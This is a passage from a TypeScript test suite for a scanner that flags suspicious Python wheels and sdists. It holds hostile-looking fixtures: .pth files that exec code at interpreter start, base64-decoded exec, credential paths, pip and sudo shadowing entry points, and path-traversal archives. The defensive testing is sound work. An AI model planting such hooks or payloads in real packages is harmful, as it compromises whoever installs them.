    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/tests/test_sync.py": STEALER,
        "demo/_private/test_utils.py": "CONFIG = '~/.kube/config'\n",
      },
    });
    assert.deepEqual(kinds(report), ["credential-access:low", "credential-access:medium"]);
    assert.ok(report.findings.every((f) => f.message.endsWith("(in test code)")));
  });

  test("does not count prose about credential files", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/a.py":
          "import requests\n# reads ~/.netrc like curl does\nraise ValueError('%s not found in .pypirc' % repo)\nrequests.post(url)\n",
      },
    });
    assert.deepEqual(report.findings, []);
  });
});

describe("native-binary", () => {
  const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]);

  test("flags an ELF file in a py3-none-any wheel, whatever its name", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo/__init__.py": "", "demo/data/helper.bin": ELF },
    });
    const finding = only(report, "native-binary");
    assert.equal(finding.severity, "high");
    assert.deepEqual(finding.evidence, [{ file: "demo/data/helper.bin", detail: "ELF" }]);
    assert.equal(report.shape.nativeFiles, 1);
  });

  test("flags native extensions by name, and PE and Mach-O files by magic", async () => {
    const pe = Buffer.alloc(128);
    pe.write("MZ", 0, "latin1");
    pe.writeUInt32LE(64, 0x3c);
    pe.write("PE\0\0", 64, "latin1");
    const macho = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(28)]);
    const javaClass = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]);
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      tag: "py2.py3-none-any",
      files: {
        "demo/__init__.py": "",
        "demo/_speedups.cpython-311-x86_64-linux-gnu.so": "not really",
        "demo/tool": pe,
        "demo/tool-mac": macho,
        "demo/Main.class": javaClass,
        "demo/readme.txt": "MZ is a text file here\n",
      },
    });
    const finding = only(report, "native-binary");
    assert.deepEqual(finding.evidence!.map((e) => `${e.file} ${e.detail}`).sort(), [
      "demo/_speedups.cpython-311-x86_64-linux-gnu.so .so file",
      "demo/tool PE",
      "demo/tool-mac Mach-O",
    ]);
  });

  test("expects native code in platform wheels and only counts it", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      tag: "cp311-cp311-manylinux_2_17_x86_64",
      files: { "demo/__init__.py": "", "demo/_core.cpython-311-x86_64-linux-gnu.so": ELF },
    });
    assert.deepEqual(report.findings, []);
    assert.equal(report.pure, false);
    assert.equal(report.shape.nativeFiles, 1);
  });

  test("flags native binaries in sdists", async () => {
    const report = await analyzeSdist({
      name: "demo",
      version: "1.0",
      files: { "demo/__init__.py": "", "bin/x": ELF },
    });
    assert.equal(only(report, "native-binary").severity, "high");
  });

  test("allows setuptools' Windows launchers as low, in setuptools only", async () => {
    const pe = Buffer.alloc(128);
    pe.write("MZ", 0, "latin1");
    pe.writeUInt32LE(64, 0x3c);
    pe.write("PE\0\0", 64, "latin1");
    const own = await analyzeWheel({
      name: "setuptools",
      version: "80.0.0",
      files: { "setuptools/__init__.py": "", "setuptools/cli-64.exe": pe },
    });
    assert.deepEqual(kinds(own), ["native-binary:low"]);
    const other = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "setuptools/__init__.py": "", "setuptools/cli-64.exe": pe },
    });
    assert.deepEqual(kinds(other), ["native-binary:high"]);
  });
});

describe("shadowing-entry-point", () => {
  test("flags a pip console script in project not-pip", async () => {
    const report = await analyzeWheel({
      name: "not-pip",
      version: "1.0",
      entryPoints: { console_scripts: { pip: "not_pip:main", "not-pip": "not_pip:main" } },
    });
    const finding = only(report, "shadowing-entry-point");
    assert.equal(finding.severity, "high");
    assert.match(finding.message, /"pip"/);
    assert.deepEqual(report.shape.entryPoints, ["console_scripts:not-pip", "console_scripts:pip"]);
  });

  test("lets a project define its own command and its versioned forms", async () => {
    const report = await analyzeWheel({
      name: "pip",
      version: "26.0",
      entryPoints: { console_scripts: { pip: "pip:main", pip3: "pip:main", "pip3.12": "pip:main" } },
    });
    assert.deepEqual(report.findings, []);
  });

  test("knows projects that own a command under another name, and takes more from options", async () => {
    const aws = await analyzeWheel({
      name: "awscli",
      version: "1.0",
      entryPoints: { console_scripts: { aws: "awscli:main" } },
    });
    assert.deepEqual(aws.findings, []);
    const custom = await analyzeWheel(
      { name: "our-git", version: "1.0", entryPoints: { gui_scripts: { git: "our_git:main" } } },
      { commandOwners: { "our-git": ["git"] } },
    );
    assert.deepEqual(custom.findings, []);
  });

  test("checks .data/scripts files and sdist pyproject scripts too", async () => {
    const wheel = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo/__init__.py": "", "demo-1.0.data/scripts/sudo": '#!/bin/sh\nexec /usr/bin/sudo "$@"\n' },
    });
    assert.deepEqual(kinds(wheel), ["shadowing-entry-point:high"]);
    assert.equal(only(wheel, "shadowing-entry-point").evidence![0]!.file, "demo-1.0.data/scripts/sudo");
  });

  test("reads entry_points.txt as importlib.metadata does: splitlines breaks, brackets, both encodings", async () => {
    for (const [label, text] of [
      ["form feed", "[console_scripts]\n# launcher\x0cpip = demo:main\n"],
      ["U+2028", "[console_scripts]\n# launcher\u2028pip = demo:main\n"],
      ["NEL in UTF-8", "[console_scripts]\n# launcher\u0085pip = demo:main\n"],
      ["doubled brackets", "[[console_scripts]]\npip = demo:main\n"],
      ["padded header", "[ console_scripts ]\npip = demo:main\n"],
      ["FS-US whitespace", "[console_scripts]\n\x1fpip\x1f = demo:main\n"],
    ] as const) {
      const report = await analyzeWheel({
        name: "demo",
        version: "1.0",
        files: { "demo/__init__.py": "", "demo-1.0.dist-info/entry_points.txt": text },
      });
      assert.deepEqual(kinds(report), ["shadowing-entry-point:high"], label);
    }
    // A lone \x85 byte is NEL only to a latin-1 reading.
    const latin1 = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/__init__.py": "",
        "demo-1.0.dist-info/entry_points.txt": Buffer.from(
          "[console_scripts]\n# x\x85pip = demo:main\n",
          "latin1",
        ),
      },
    });
    assert.deepEqual(kinds(latin1), ["shadowing-entry-point:high"]);
  });

  test("maps versioned and .exe names to the command", () => {
    assert.equal(shadowedCommand("python3.12"), "python");
    assert.equal(shadowedCommand("pip3"), "pip");
    assert.equal(shadowedCommand("kubectl.exe"), "kubectl");
    assert.equal(shadowedCommand("flask"), undefined);
    assert.equal(shadowedCommand("py3"), undefined);
  });
});

describe("shape", () => {
  test("lists what a wheel installs at the top of site-packages", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      tag: "cp311-cp311-manylinux_2_17_x86_64",
      files: {
        "demo/__init__.py": "",
        "demo/sub/x.py": "",
        "six.py": "",
        "_cffi.cpython-311-x86_64-linux-gnu.so": "",
        "demo.libs/libz.so.1": "",
        LICENSE: "MIT\n",
        "demo.pth": "demo\n",
        "demo-1.0.data/platlib/extra/__init__.py": "",
        "demo-1.0.data/scripts/demo-run": "#!python\nprint(1)\n",
        "demo-1.0.data/scripts/demo-tool.py": "print(2)\n",
      },
      entryPoints: { console_scripts: { demo: "demo:main" }, pytest11: { demo: "demo.plugin" } },
    });
    assert.deepEqual(report.shape.topLevel, ["_cffi", "demo", "extra", "six"]);
    assert.deepEqual(report.shape.pthFiles, ["demo.pth"]);
    assert.deepEqual(report.shape.entryPoints, [
      "console_scripts:demo",
      "pytest11:demo",
      "scripts:demo-run",
      "scripts:demo-tool.py",
    ]);
    assert.equal(report.shape.nativeFiles, 2);
    assert.equal(report.shape.fileCount, 14);
    assert.ok(report.shape.totalUncompressed > 0);
    assert.equal(report.distribution, "wheel");
    assert.equal(report.project, "demo");
  });

  test("lists an sdist's packages in flat and src layouts, and its declared scripts", async () => {
    const flat = await analyzeSdist({
      name: "flat",
      version: "1.0",
      files: {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "flat/__init__.py": "",
        "single.py": "",
        "tests/__init__.py": "",
        "docs/conf.py": "",
        "flat.egg-info/entry_points.txt": "[console_scripts]\nflat = flat:main\n",
      },
    });
    assert.deepEqual(flat.shape.topLevel, ["flat", "single"]);
    assert.deepEqual(flat.shape.entryPoints, ["console_scripts:flat"]);
    // A zip sdist, so that this pyproject.toml replaces the helper's default one.
    const src = await analyzeSdist({
      name: "srcy",
      version: "1.0",
      format: "zip",
      files: {
        "src/srcy/__init__.py": "",
        "src/nsonly/mod.py": "",
        "src/tool.py": "",
        "pyproject.toml":
          '[project]\nname = "srcy"\n\n[project.scripts]\nsrcy = "srcy:main"\n"ls" = "srcy:ls"\n\n[project.gui-scripts]\nsrcy-gui = "srcy:gui"\n',
      },
    });
    assert.deepEqual(src.shape.topLevel, ["nsonly", "srcy", "tool"]);
    assert.deepEqual(src.shape.entryPoints, [
      "console_scripts:ls",
      "console_scripts:srcy",
      "gui_scripts:srcy-gui",
    ]);
    assert.deepEqual(kinds(src), ["shadowing-entry-point:high"]);
  });
});

describe("hostile and unusual archives", () => {
  for (const kind of MALFORMED_ZIP_KINDS) {
    test(`turns a ${kind} wheel into an unreadable-archive finding`, async () => {
      const path = join(dir, `evil-${kind}`);
      await writeFile(path, buildMalformedZip(kind));
      const report = await analyzeArtifact(path, "evil-1.0-py3-none-any.whl");
      const finding = only(report, "unreadable-archive");
      assert.equal(finding.severity, "high");
      assert.equal(report.readable, false);
      assert.equal(runArtifact(report).status, "fail");
    });
  }

  for (const kind of MALFORMED_SDIST_KINDS) {
    test(`turns a ${kind} sdist into an unreadable-archive finding`, async () => {
      const path = join(dir, `evil-sdist-${kind}`);
      await writeFile(path, await buildMalformedSdist(kind));
      const report = await analyzeArtifact(path, "evil-1.0.tar.gz");
      assert.equal(only(report, "unreadable-archive").severity, "high");
    });
  }

  test("names the refused entry and the error code", async () => {
    const path = join(dir, "evil-traversal");
    await writeFile(path, buildMalformedZip("path-traversal"));
    const finding = only(await analyzeArtifact(path, "evil-1.0-py3-none-any.whl"), "unreadable-archive");
    assert.deepEqual(finding.evidence, [{ file: "../evil.py", detail: "PATH_TRAVERSAL" }]);
  });

  test("refuses a file that is no archive format at all", async () => {
    const path = join(dir, "evil.egg");
    await writeFile(path, "x");
    const report = await analyzeArtifact(path, "evil-1.0-py3.11.egg");
    assert.equal(only(report, "unreadable-archive").evidence![0]!.detail, "UNSUPPORTED");
    assert.equal(report.distribution, "unknown");
  });

  test("reads files too large to hold whole in pieces: a giant library is vetted, code that size fails closed", async () => {
    const KiB = 1024;
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), randomBytes(300 * KiB)]);
    const big = { streamAbove: 100 * KiB };
    const library = await analyzeWheel(
      {
        name: "demo",
        version: "1.0",
        tag: "cp311-cp311-manylinux_2_28_x86_64",
        files: {
          "demo/_core.cpython-311-x86_64-linux-gnu.so": elf,
          "demo/__init__.py": "from demo._core import *\n",
          // Model weights deeper in the package: data site never reads, however large.
          "demo/models/weights.pth": randomBytes(300 * KiB),
        },
      },
      big,
    );
    assert.equal(library.readable, true);
    assert.deepEqual(kinds(library), []);
    assert.equal(library.shape.fileCount, 6);
    assert.ok(library.shape.totalUncompressed > 600 * KiB);

    // RECORD is checked against the pieces: a large file that does not match its hash fails.
    const tampered = await analyzeWheel(
      {
        name: "demo",
        version: "1.0",
        tag: "cp311-cp311-manylinux_2_28_x86_64",
        files: { "demo/_core.cpython-311-x86_64-linux-gnu.so": elf, "demo/__init__.py": "x = 1\n" },
        record: "wrong-hash",
      },
      big,
    );
    const mismatch = only(tampered, "record-mismatch");
    assert.equal(mismatch.severity, "high");
    assert.deepEqual(
      mismatch.evidence!.map((e) => [e.file, e.detail]),
      [["demo/_core.cpython-311-x86_64-linux-gnu.so", "HASH_MISMATCH"]],
    );

    // Source and a top-level .pth that large cannot be scanned: they fail closed.
    const pad = "# pad\n".repeat(30 * KiB);
    const code = await analyzeWheel(
      {
        name: "demo",
        version: "1.0",
        files: { "demo/__init__.py": `x = 1\n${pad}`, "demo.pth": `import os\n${pad}` },
      },
      big,
    );
    assert.deepEqual(kinds(code), ["scan-skipped:high", "scan-skipped:high"]);
    for (const f of code.findings) assert.match(f.message, /cannot be vetted: .* is too large to read whole/);
    assert.equal(runArtifact(code).status, "fail");
  });

  test("fails closed on sources, .pth files and entry points over the size limit", async () => {
    const pad = "# pad\n".repeat(400);
    const report = await analyzeWheel(
      {
        name: "demo",
        version: "1.0",
        files: {
          "demo/__init__.py": `x = 1\n${pad}`,
          "demo.pth": `import os; exec(os.environ['X'])\n${pad}`,
          "sitecustomize.py": `import demo\n${pad}`,
          "demo-1.0.dist-info/entry_points.txt": `[console_scripts]\npip = demo:main\n${pad}`,
        },
      },
      { maxTextBytes: 1024 },
    );
    assert.deepEqual(kinds(report), [
      "scan-skipped:high",
      "scan-skipped:high",
      "scan-skipped:high",
      "scan-skipped:high",
    ]);
    assert.equal(runArtifact(report).status, "fail");
    assert.match(
      report.findings.find((f) => f.evidence?.[0]?.file === "demo.pth")!.message,
      /demo\.pth cannot be vetted: .* code run at interpreter start/,
    );
  });

  test("scans .py, .pth and entry_points.txt holding NUL bytes or bytes that are not UTF-8", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/__init__.py": Buffer.concat([Buffer.from("exec(base64.b64decode(x))\n"), Buffer.alloc(4)]),
        // site skips `#` lines, so `#\0` is harmless to Python and must not hide the line before.
        "demo.pth": Buffer.concat([
          Buffer.from("import os; os.system('id')\n#"),
          Buffer.from([0, 0xff, 0x0a]),
        ]),
        "demo-1.0.dist-info/entry_points.txt": Buffer.concat([
          Buffer.from("[console_scripts]\npip = demo:main\n#"),
          Buffer.from([0, 0xfe, 0x0a]),
        ]),
      },
    });
    assert.deepEqual(kinds(report), [
      "obfuscated-exec:high",
      "pth-exec:critical",
      "shadowing-entry-point:high",
    ]);
    assert.ok(report.scannedTextBytes > 0, "the files were scanned");
  });

  test("passes an abort through as an exception", async () => {
    const { path, filename } = await writeWheel(dir, { name: "demo", version: "1.0" });
    await assert.rejects(analyzeArtifact(path, filename, { signal: AbortSignal.abort() }), {
      name: "AbortError",
    });
  });
});

describe("runArtifact", () => {
  const report = (findings: Finding[]): ArtifactReport => ({
    filename: "demo-1.0-py3-none-any.whl",
    distribution: "wheel",
    pure: true,
    readable: true,
    findings,
    shape: {
      topLevel: [],
      pthFiles: [],
      nativeFiles: 0,
      totalUncompressed: 2048,
      fileCount: 3,
      entryPoints: [],
    },
    scannedTextBytes: 0,
  });

  test("passes with nothing or only low findings, warns on medium, fails on high and critical", () => {
    assert.equal(runArtifact(report([])).status, "pass");
    assert.match(
      runArtifact(report([])).message,
      /^nothing suspicious in demo-1\.0-py3-none-any\.whl \(3 files, 2\.0 KiB\)$/,
    );
    assert.equal(runArtifact(report([{ kind: "pth-exec", message: "m", severity: "low" }])).status, "pass");
    assert.equal(
      runArtifact(report([{ kind: "credential-access", message: "m", severity: "medium" }])).status,
      "warn",
    );
    assert.equal(
      runArtifact(report([{ kind: "native-binary", message: "m", severity: "high" }])).status,
      "fail",
    );
    assert.equal(
      runArtifact(report([{ kind: "pth-exec", message: "m", severity: "critical" }])).status,
      "fail",
    );
  });

  test("summarises the worst findings first", () => {
    const result = runArtifact(
      report([
        { kind: "credential-access", message: "a.py refers to credential locations", severity: "medium" },
        { kind: "pth-exec", message: "x.pth runs code", severity: "critical" },
        { kind: "native-binary", message: "1 native binary", severity: "high" },
        { kind: "scan-skipped", message: "big.py was not scanned", severity: "low" },
      ]),
    );
    assert.equal(result.check, "artifact");
    assert.equal(
      result.message,
      "critical pth-exec: x.pth runs code; high native-binary: 1 native binary; medium credential-access: a.py refers to credential locations; and 1 more",
    );
    assert.equal(result.findings[0]!.kind, "pth-exec");
  });
});

describe("real wheels", () => {
  const wheelDirs = [join(sharedDataDir(), "wheels"), "/usr/share/python-wheels"].filter((d) =>
    existsSync(d),
  );

  test(
    "raise nothing high or critical",
    { skip: wheelDirs.length === 0 ? "no real wheels here" : false },
    async (t) => {
      let seen = 0;
      for (const wheelDir of wheelDirs) {
        for (const name of (await readdir(wheelDir)).filter((n) => n.endsWith(".whl")).sort()) {
          const report = await analyzeArtifact(join(wheelDir, name), name);
          seen++;
          assert.ok(report.readable, name);
          assert.ok(report.shape.topLevel.length > 0, `${name} has top-level names`);
          const severe = report.findings.filter((f) => RANK[f.severity ?? "medium"] >= RANK.high);
          assert.deepEqual(severe, [], `${name}: ${JSON.stringify(severe, null, 2)}`);
          for (const f of report.findings) {
            const where = f.evidence?.[0];
            t.diagnostic(
              `${name}: ${f.severity} ${f.kind}: ${f.message} (${where?.file ?? ""}:${where?.line ?? ""})`,
            );
          }
        }
      }
      assert.ok(seen > 0);
    },
  );
});

describe("dist-info-mismatch", () => {
  test("a wheel whose .dist-info names another project or version fails: pip would install that", async () => {
    const other = await analyzeWheel({
      name: "mismatch",
      version: "1.0",
      distInfoDir: "requests-99.0.dist-info",
    });
    const f = only(other, "dist-info-mismatch");
    assert.equal(f.severity, "high");
    assert.match(f.message, /requests-99\.0\.dist-info does not match mismatch 1\.0/);
    assert.equal(runArtifact(other).status, "fail");
    const version = await analyzeWheel({
      name: "mismatch",
      version: "1.0",
      distInfoDir: "mismatch-2.0.dist-info",
    });
    assert.equal(only(version, "dist-info-mismatch").severity, "high");
    const fine = await analyzeWheel({ name: "mismatch", version: "1.0" });
    assert.deepEqual(
      fine.findings.filter((x) => x.kind === "dist-info-mismatch"),
      [],
    );
  });
});
